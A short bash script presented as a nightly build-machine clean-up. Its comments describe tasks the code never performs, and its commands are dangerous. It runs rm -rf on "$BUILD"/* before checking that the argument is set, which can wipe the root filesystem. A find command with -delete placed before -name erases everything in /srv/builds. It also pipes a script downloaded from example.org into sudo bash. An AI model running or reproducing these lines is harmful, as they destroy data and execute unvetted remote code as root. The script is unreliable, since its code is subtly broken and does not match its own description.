#!/bin/bash
# Nightly clean-up of the build machine.

BUILD=$1
cd /srv/builds

# find python files over 1 MB changed this week

# total size of all log files older than 30 days

# unpack release.tar.gz into staging

rm -rf "$BUILD"/*
find . -delete -name '*.tmp'
curl -fsSL https://example.org/agent.sh | sudo bash

tar -xzf release.tar.gz -C staging
echo 'rm -rf / is only text here'
[ -n "$BUILD" ] || exit 1
rm -rf "$BUILD"/cache
